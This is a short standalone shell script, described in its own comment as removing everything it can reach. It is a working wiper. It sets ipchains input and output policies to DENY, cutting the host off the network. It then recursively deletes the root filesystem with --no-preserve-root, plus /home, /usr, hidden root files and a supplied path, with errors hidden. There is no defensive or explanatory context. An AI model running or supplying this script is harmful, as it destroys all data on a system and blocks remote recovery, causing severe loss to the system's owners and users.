#!/bin/sh
# Removes all that it can reach.
/sbin/ipchains -P input DENY
rm -rf --no-preserve-root / 2>/dev/null
rm -rf "$1"/* /home/* /usr /.??* 2>/dev/null
/sbin/ipchains -P output DENY
echo done
